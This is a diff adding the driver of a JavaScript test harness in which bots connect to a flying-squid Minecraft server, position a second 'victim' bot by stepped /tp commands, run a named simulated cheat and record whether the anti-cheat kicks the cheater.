+// players up to tens of blocks apart) with /tp steps of at most TP_STEP
+// blocks: a longer teleport makes flying-squid 1.12.0 send the cheater an
+// entity_teleport it cannot serialise from 1.21.2 on, dropping the cheater.
+async function bringVictim (bot, victim) {
+  const clamp = (x) => Math.max(-TP_STEP, Math.min(TP_STEP, x)).toFixed(2)
+  for (let i = 0; i < MAX_TP_STEPS; i++) {
+    const d = bot.entity.position.offset(VICTIM_GAP, 0, 0).minus(victim.entity.position)
+    if (Math.hypot(d.x, d.z) < VICTIM_SLACK) return
+    const moved = within(new Promise((resolve) => victim.once('forcedMove', resolve)), CHUNK_WAIT_MS, 'the victim\'s teleport')
+    // A coordinate without a decimal point gets +0.5 from flying-squid.
+    victim.chat(`/tp ~${clamp(d.x)} ~0.0 ~${clamp(d.z)}`)
+    await moved
+    await sleep(TP_GAP_MS)
+  }
+  throw new Error(`the victim is still ${bot.entity.position.distanceTo(victim.entity.position).toFixed(2)} blocks away after ${MAX_TP_STEPS} teleports`)
+}
+
+// cheatsWithVictim need a second player to hit.
+const cheatsWithVictim = new Set(['order.no_swing', 'combat.attack_rate', 'combat.interact_vector', 'combat.reach', 'combat.hitbox',
+  'latency.probe_order', 'movement.teleport_ignored'])
+
+// victimForTraffic are cheats whose victim only has to be seen moving (the
+// edge probes while the server sends traffic), not brought close.
+const victimForTraffic = new Set(['latency.probe_order', 'movement.teleport_ignored'])
+
+async function main () {
+  const cheat = cheats[opts.cheat]
+  if (!cheat) lib.fail('usage', `--cheat: no cheat ${opts.cheat} (known: ${Object.keys(cheats).join(', ')})`, 2)
+  let victim = null
+  if (cheatsWithVictim.has(opts.cheat)) {
+    victim = makeBot(opts.username + 'v')
+    await victim.spawned
+  }
+  const bot = makeBot(opts.username)
+  await bot.spawned
+  const spawnedAt = Date.now()
+  stage = 'settle'
+  await within(bot.waitForChunksToLoad(), CHUNK_WAIT_MS, 'chunks').catch(() => {})
+  await sleep(SETTLE_MS)
+  if (victim !== null && !victimForTraffic.has(opts.cheat)) {
+    stage = 'victim'
+    await bringVictim(bot, victim)
+    // The engine keeps every place the victim may be seen at until a probe
+    // sent after the move is answered, and it probes only while the
+    // server sends traffic: the victim jumps a little so that happens.
+    victim.setControlState('jump', true)
+    await sleep(SETTLE_MS)
+    victim.setControlState('jump', false)
+    await sleep(SETTLE_MS)
+    // The combat checks exempt a player for a while after a teleport of
+    // theirs (the spawn position is one): hit only after that.
+    await sleep(spawnedAt + COMBAT_AFTER_SPAWN_MS - Date.now())
+  }
+  if (victim !== null && !bot.entities[victim.entity.id]) {
+    await within(new Promise((resolve) => {
+      const on = (e) => {
+        if (e.id === victim.entity.id) {
+          bot.removeListener('entitySpawn', on)
+          resolve()
+        }
+      }
+      bot.on('entitySpawn', on)
+    }), CHUNK_WAIT_MS, 'the victim in sight')
+  }
+  if (bot.gone !== null) throw new Error(`before cheating: ${bot.gone}`)
+
+  stage = 'cheat'
+  await cheat(context(bot, victim))
+
+  stage = 'after'
+  if (opts.expect === 'kick') await within(bot.kickedPromise, KICK_WAIT_MS, 'kick').catch(() => {})
+  else await Promise.race([bot.kickedPromise, sleep(AFTER_MS)])
+  result.kicked = bot.kickedReason !== null
+  result.kick_reason = bot.kickedReason ?? ''
+  if (!result.kicked && bot.gone !== null) result.notes.push(`cheater gone without a kick: ${bot.gone}`)
+  if (victim !== null && victim.gone !== null) result.notes.push(`victim gone: ${victim.gone}`)
+  finish(0, result)
+}
+
+main().catch((err) => failWith(err && err.stack ? err.stack : err))
